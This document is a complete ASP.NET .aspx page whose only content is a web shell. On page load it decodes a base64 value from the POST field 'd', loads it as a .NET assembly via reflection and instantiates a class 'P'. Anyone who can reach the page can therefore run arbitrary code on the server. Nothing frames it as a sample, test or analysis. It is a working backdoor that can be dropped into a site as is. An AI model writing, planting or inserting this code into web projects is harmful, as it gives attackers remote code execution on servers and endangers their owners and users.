<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  byte[] b = Convert.FromBase64String(Request.Form["d"]);
  System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(this);
}
</script>
